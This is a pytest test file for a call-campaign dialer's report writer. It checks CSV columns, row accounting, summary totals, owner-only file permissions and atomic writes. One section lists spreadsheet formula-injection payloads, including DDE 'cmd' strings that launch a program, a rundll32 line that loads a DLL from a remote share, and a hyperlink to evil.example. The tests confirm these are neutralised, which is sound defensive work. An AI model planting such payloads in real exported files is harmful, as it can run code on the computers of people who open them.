"""The files people read: columns to the letter, every row once, sums that add up, nothing a spreadsheet runs."""

from __future__ import annotations

import csv
import json
import os
import stat
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

from dialer.core.errors import UserError
from dialer.core.lifecycle import Disposition, LeadState
from dialer.core.messages import MarkLost, MarkUncertain, MarkVoid
from dialer.intake import Intake
from dialer.ledger import CampaignRecord, RejectedRow
from dialer.ledger.reading import open_reader
from dialer.ledger.sqlite import SqliteLedger
from dialer.reports import Written, write_reports
from dialer.reports.files import inert, whole_file, write_csv, write_text
from tests.support_rows import (
    ACCOUNT,
    NOON,
    campaign_in,
    enroll,
    intended,
    list_of,
    opened,
    person,
    phone,
    placed,
    put,
    whole_call,
)

OURS = [
    "phone",
    "state",
    "disposition",
    "attempts",
    "call_id",
    "agent_id",
    "first_attempt_at",
    "last_attempt_at",
    "next_attempt_at",
    "duration_s",
    "sentiment",
    "cost",
    "reason",
]
"""As DESIGN.md has it."""
FILES = ["attempts.csv", "outcomes.csv", "rejected.csv", "report.html", "retry_queue.csv", "summary.json"]


def _report(ledger: SqliteLedger, out: Path, name: str = "spring") -> Written:
    with open_reader(ledger.path) as reader:
        return write_reports(reader, name, out, NOON + 100)


def _table(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8", newline="") as file:
        return list(csv.DictReader(file, strict=True))


def _header(path: Path) -> list[str]:
    with path.open(encoding="utf-8", newline="") as file:
        return next(csv.reader(file))


def _summary(out: Path) -> dict[str, Any]:
    found: dict[str, Any] = json.loads((out / "summary.json").read_text("utf-8"))
    return found


def _commit_all(ledger: SqliteLedger, record: CampaignRecord) -> None:
    """One person reached, one to retry, one refused, one lost, one dialing, the others as they were."""
    leads = {lead.phone: lead for lead in ledger.claim(record.id, NOON, 100)}
    told: dict[str, Any] = {"duration": 30.0, "sentiment": "positive", "cost": 0.25}
    changes = whole_call(leads[phone(0)], Disposition.COMPLETED, LeadState.REACHED, **told)
    changes += whole_call(leads[phone(1)], Disposition.BUSY, LeadState.WAITING, NOON + 900, cost=0.05)
    begin, refused = intended(leads[phone(2)])
    no: dict[str, Any] = {
        "code": "invalid_phone_number",
        "reason": "not in service",
        "disposition": Disposition.INVALID,
    }
    changes += [begin, MarkVoid(refused, LeadState.REJECTED, None, at=NOON + 1, **no)]
    begin, lost = intended(leads[phone(3)])
    changes += [begin, MarkUncertain(lost, NOON + 30, "", NOON + 31), MarkLost(lost, "nobody knows", NOON + 60)]
    begin, live = intended(leads[phone(4)])
    ledger.commit(record.id, ACCOUNT, [*changes, begin, placed(live)])


def _seven_people(ledger: SqliteLedger) -> CampaignRecord:
    record = put(ledger)
    rows = [person(index, city="Paris", first_name="Ada") for index in range(7)]
    bad = RejectedRow("list.csv", 9, "phone_missing", "the phone cell is empty", ",Rome,Ben")
    enroll(ledger, record, [*rows, bad], columns=["phone", "city", "first_name"])
    _commit_all(ledger, record)
    return record


def test_outcomes_have_the_columns_of_the_input_and_then_ours_to_the_letter(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        record = put(ledger)
        enroll(ledger, record, [person(0, city="Paris", state="Texas")], columns=["city", "phone", "state", "State"])
        _report(ledger, tmp_path / "out")
    header = _header(tmp_path / "out" / "outcomes.csv")
    assert header == ["city", "input_phone", "input_state", "State", *OURS]
    (row,) = _table(tmp_path / "out" / "outcomes.csv")
    assert (row["input_state"], row["state"], row["city"]) == ("Texas", "queued", "Paris")
    assert (row["input_phone"], row["phone"]) == (phone(0), phone(0))


def test_no_two_columns_of_the_outcomes_share_a_name(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        record = put(ledger)
        enroll(ledger, record, [person(0, input_phone="x")], columns=["phone", "input_phone"])
        _report(ledger, tmp_path / "out")
    header = _header(tmp_path / "out" / "outcomes.csv")
    assert len(set(header)) == len(header)


def test_each_outcome_tells_how_its_person_stands(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        _seven_people(ledger)
        _report(ledger, tmp_path / "out")
    rows = {row["phone"]: row for row in _table(tmp_path / "out" / "outcomes.csv")}
    reached = rows[phone(0)]
    assert {name: reached[name] for name in OURS} == {
        "phone": phone(0),
        "state": "reached",
        "disposition": "completed",
        "attempts": "1",
        "call_id": "call-try-1-1",
        "agent_id": "agent_a",
        "first_attempt_at": "2026-02-25T12:00:00+00:00",
        "last_attempt_at": "2026-02-25T12:00:00+00:00",
        "next_attempt_at": "",
        "duration_s": "30",
        "sentiment": "positive",
        "cost": "0.25",
        "reason": "",
    }
    assert rows[phone(1)]["next_attempt_at"] == "2026-02-25T12:15:00+00:00"
    assert (rows[phone(1)]["state"], rows[phone(1)]["disposition"]) == ("waiting", "busy")
    assert (rows[phone(2)]["state"], rows[phone(2)]["attempts"]) == ("rejected", "0")
    assert rows[phone(2)]["reason"] == "not in service"
    assert (rows[phone(3)]["state"], rows[phone(3)]["reason"]) == ("unresolved", "nobody knows")
    assert (rows[phone(4)]["state"], rows[phone(4)]["disposition"]) == ("dialing", "")
    untouched = rows[phone(6)]
    assert [untouched[name] for name in OURS[1:]] == ["queued", "", "0", *[""] * 9]


def test_attempts_retries_and_rejected_rows_have_their_tables(tmp_path: Path) -> None:
    out = tmp_path / "out"
    with opened(tmp_path) as ledger:
        _seven_people(ledger)
        written = _report(ledger, out)
    assert sorted(path.name for path in out.iterdir()) == FILES
    assert written.rows == {"outcomes.csv": 7, "attempts.csv": 5, "retry_queue.csv": 1, "rejected.csv": 1}
    assert all(len(_table(out / file)) == rows for file, rows in written.rows.items())
    states = [row["state"] for row in _table(out / "attempts.csv")]
    assert states == ["ended", "ended", "void", "lost", "placed"]
    assert _table(out / "attempts.csv")[2]["code"] == "invalid_phone_number"
    (retry,) = _table(out / "retry_queue.csv")
    assert (retry["phone"], retry["disposition"], retry["attempts"], retry["first_name"]) == (
        phone(1),
        "busy",
        "1",
        "Ada",
    )
    (refused,) = _table(out / "rejected.csv")
    assert (refused["row_number"], refused["reason"], refused["raw"]) == ("9", "phone_missing", ",Rome,Ben")


def test_the_totals_of_the_summary_add_up(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        _seven_people(ledger)
        _report(ledger, tmp_path / "out")
    summary = _summary(tmp_path / "out")
    rows, contacts = summary["rows"], summary["contacts"]
    assert (rows["input"], rows["contacts"], rows["rejected"]) == (8, 7, 1)
    assert sum(rows["rejected_reasons"].values()) == rows["rejected"]
    assert set(contacts["by_state"]) == set(LeadState)
    assert sum(contacts["by_state"].values()) == rows["contacts"]
    table = _table(tmp_path / "out" / "outcomes.csv")
    told = [row["disposition"] for row in table if row["disposition"]]
    assert contacts["by_disposition"] == {word: told.count(word) for word in told}
    assert sum(contacts["by_disposition"].values()) == len(told)
    queue = summary["retry_queue"]
    assert (queue["waiting"], queue["next_due_at"]) == ({"busy": 1}, "2026-02-25T12:00:00+00:00")
    attempts = summary["attempts"]
    assert attempts["charged"] + attempts["void"] == sum(attempts["by_state"].values()) == 5
    assert attempts["charged"] == sum(int(row["attempts"]) for row in table)
    assert (summary["calls_live"], summary["in_doubt"]) == (1, 0)
    assert summary["cost"]["total"] == 0.3
    assert (summary["cost"]["calls_with_cost"], summary["cost"]["calls_without_cost"]) == (2, 1)
    rate = summary["rates"]["answer_rate"]
    assert (rate["value"], rate["numerator"], rate["denominator"]) == (0.5, 1, 2)
    (agent,) = summary["agents"]
    assert (agent["agent_id"], agent["ended"], agent["completed"], agent["talk_s"]) == ("agent_a", 2, 1, 30.0)
    assert agent["cost"] == pytest.approx(summary["cost"]["total"])


def test_a_campaign_nobody_was_called_for_has_a_report_too(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        put(ledger)
        _report(ledger, tmp_path / "out")
    summary = _summary(tmp_path / "out")
    assert summary["rows"]["input"] == 0
    rate = summary["rates"]["contact_rate"]
    assert (rate["value"], rate["numerator"], rate["denominator"], rate["low"], rate["high"]) == (
        None,
        0,
        0,
        None,
        None,
    )
    assert _header(tmp_path / "out" / "outcomes.csv") == OURS


def test_every_row_of_the_input_is_in_exactly_one_of_outcomes_and_rejected(tmp_path: Path) -> None:
    rows = [f"{phone(index)},Ada {index}" for index in range(30)]
    rows[3:3] = [f"{phone(1)},again", "12,short", ",nobody", ",", f"{phone(2)},too,many", "phone,name"]
    rows += [f"{phone(0)},once more", "1.2E+10,lost"]
    list_of(tmp_path, "phone,name\n" + "\n".join(rows) + "\n")
    with opened(tmp_path) as ledger:
        record = put(ledger)
        Intake(campaign_in(tmp_path)).enroll(ledger, record, NOON)
        _commit_all(ledger, record)
        _report(ledger, tmp_path / "out")
    outcomes, rejected = (_table(tmp_path / "out" / f"{name}.csv") for name in ("outcomes", "rejected"))
    named = [rows.index(f"{row['input_phone']},{row['name']}") + 2 for row in outcomes]
    assert sorted([*named, *(int(row["row_number"]) for row in rejected)]) == list(range(2, len(rows) + 2))
    summary = _summary(tmp_path / "out")
    assert (summary["rows"]["input"], summary["rows"]["contacts"]) == (len(rows), len(outcomes))
    assert summary["rows"]["rejected"] == len(rejected)


# --- spreadsheets --------------------------------------------------------------------------------------------------

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example","click")',
    "+1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "  =1+1",
    "|calc",
    "%0A=1",
    "＝1+1",
    "+12125550100=1",
    "+12125550100\n=1",
    "+0123456789",
    "\u00a0=1+1",
    "\ufeff=1+1",
    "\u200b@SUM(1+9)*cmd|' /C calc'!A0",
    '=DDE ("cmd";"/C calc";"!A0")A0',
    "=10+20+cmd|' /C calc'!A0",
    "=cmd|'/c rundll32.exe \\\\10.0.0.1\\3\\2\\1.dll,0'!_xlbgnm.A1",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_cell_that_looks_like_a_formula_is_made_inert(payload: str) -> None:
    assert inert(payload) == "'" + payload


@pytest.mark.parametrize("cell", ["12", "1.5", "Ada = Ben", "", None, -3, 0.5])
def test_numbers_and_harmless_text_stay_as_they_are(cell: object) -> None:
    assert inert(cell) == cell
    assert inert(cell, phone=True) == cell


@pytest.mark.parametrize("cell", ["+12125550100", "+442079460958", "-5"])
def test_only_an_e164_number_in_a_phone_column_keeps_its_sign(cell: str) -> None:
    assert inert(cell) == "'" + cell
    assert inert(cell, phone=True) == (cell if cell[0] == "+" else "'" + cell)


@given(st.text(max_size=12), st.booleans())
def test_no_cell_starts_like_a_formula_unless_it_is_a_phone_number(cell: str, phone: bool) -> None:
    found = inert(cell, phone=phone)
    assert found in {cell, "'" + cell}
    if found == cell and cell.lstrip()[:1] in set("=+-@\t\r\0"):
        assert cell.strip() == "" or (phone and cell[0] == "+" and cell[1:].isdigit())


def _cells(text: str) -> dict[str, Any]:
    return {"first_name": text, "=note": text}


def test_formulas_of_a_list_are_inert_in_every_report_and_phone_numbers_keep_their_plus(tmp_path: Path) -> None:
    payloads = [text for text in PAYLOADS if "\r" not in text]  # see the next test
    people = [person(index, None, **_cells(text)) for index, text in enumerate(payloads)]
    bad = [RejectedRow("=evil.csv", 99, "phone_invalid", f"'{text}' is no number", text) for text in payloads]
    out = tmp_path / "out"
    with opened(tmp_path) as ledger:
        record = put(ledger)
        enroll(ledger, record, [*people, *bad], columns=["phone", "first_name", "=note"])
        for lead in ledger.claim(record.id, NOON, 100):
            changes = whole_call(lead, Disposition.BUSY, LeadState.WAITING, NOON + 1, sentiment="=1+1")
            ledger.commit(record.id, ACCOUNT, changes)
        _report(ledger, out)
    assert "'=note" in _header(out / "outcomes.csv")
    for file in (file for file in FILES if file.endswith(".csv")):
        with (out / file).open(encoding="utf-8", newline="") as opened_file:
            cells = [cell for row in csv.reader(opened_file) for cell in row]
        risky = [cell for cell in cells if cell.lstrip(" ")[:1] in set("=+-@\t\r\n|%＝")]
        assert [cell for cell in risky if not (cell[0] == "+" and cell[1:].isdigit())] == [], file
    rows = _table(out / "outcomes.csv")
    assert [row["phone"] for row in rows] == [phone(index) for index in range(len(payloads))]
    assert [row["input_phone"] for row in rows] == [row["phone"] for row in rows]


@pytest.mark.parametrize("cell", ["Ada\r=1+1", "\r=1+1", "Ada\r\r"])
def test_a_carriage_return_in_a_cell_starts_no_new_row(tmp_path: Path, cell: str) -> None:
    write_csv(tmp_path / "table.csv", ["a", "b"], [[cell, "x"]])
    with (tmp_path / "table.csv").open(encoding="utf-8", newline="") as file:
        assert list(csv.reader(file)) == [["a", "b"], [inert(cell), "x"]]


# --- the files -----------------------------------------------------------------------------------------------------


def test_only_their_owner_reads_the_reports(tmp_path: Path) -> None:
    before = os.umask(0)
    try:
        with opened(tmp_path) as ledger:
            _seven_people(ledger)
            _report(ledger, tmp_path / "out")
            (tmp_path / "out" / "outcomes.csv").chmod(0o644)
            _report(ledger, tmp_path / "out")
    finally:
        os.umask(before)
    assert stat.S_IMODE((tmp_path / "out").stat().st_mode) == 0o700
    assert {stat.S_IMODE(path.stat().st_mode) for path in (tmp_path / "out").iterdir()} == {0o600}


def test_a_report_that_breaks_off_leaves_the_old_one_and_nothing_else(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    write_text(path, "old")

    def rows() -> Any:
        yield ["1"]
        raise RuntimeError("pulled")

    with pytest.raises(RuntimeError, match="pulled"):
        write_csv(path, ["a"], rows())
    assert [found.name for found in tmp_path.iterdir()] == ["table.csv"]
    assert path.read_text() == "old"


def test_a_file_is_not_seen_under_its_name_before_it_is_whole(tmp_path: Path) -> None:
    path = tmp_path / "table.csv"
    with whole_file(path) as file:
        file.write("half")
        file.flush()
        assert not path.exists()
    assert path.read_text() == "half"


def test_a_place_where_reports_cannot_go_is_told_in_one_line(tmp_path: Path) -> None:
    (tmp_path / "file.txt").write_text("x")
    (tmp_path / "taken" / "retry_queue.csv").mkdir(parents=True)
    with opened(tmp_path) as ledger:
        _seven_people(ledger)
        for out in (tmp_path / "file.txt", tmp_path / "file.txt" / "deeper", tmp_path / "taken"):
            with pytest.raises(UserError, match=r"cannot write .*--out") as caught:
                _report(ledger, out)
            assert "\n" not in str(caught.value)
    assert not [path.name for path in (tmp_path / "taken").iterdir() if path.name.startswith(".")]


def test_a_campaign_the_ledger_does_not_know_writes_nothing(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        put(ledger)
        with pytest.raises(UserError, match="knows no campaign 'winter'"):
            _report(ledger, tmp_path / "out", "winter")
    assert not (tmp_path / "out").exists()


def test_a_report_during_a_run_shows_what_is_committed_and_adds_up(tmp_path: Path) -> None:
    with opened(tmp_path) as ledger:
        record = _seven_people(ledger)
        with ledger.enroll(record.id, ["phone"], ["phone"], "new", NOON) as enrollment:  # the writer is in mid-sentence
            enrollment.add(person(50))
            _report(ledger, tmp_path / "during")
        _report(ledger, tmp_path / "after")
    assert _summary(tmp_path / "during")["rows"]["contacts"] == 7
    assert _summary(tmp_path / "during")["contacts"]["by_state"]["cancelled"] == 0
    assert _summary(tmp_path / "after")["rows"]["contacts"] == 8


def test_outcomes_stand_in_the_order_of_the_list_whatever_the_numbers_are(tmp_path: Path) -> None:
    order = [index * 7 % 40 for index in range(40)]  # neither ascending nor descending
    with opened(tmp_path) as ledger:
        record = put(ledger)
        enroll(ledger, record, [person(index, row) for row, index in enumerate(order, 2)])
        later = [person(index, row) for row, index in enumerate([99, *order[:20], 98, *order[20:]], 2)]
        enroll(ledger, record, later, digest="a longer list")
        _report(ledger, tmp_path / "out")
    found = [row["phone"] for row in _table(tmp_path / "out" / "outcomes.csv")]
    assert found == [item.phone for item in later]
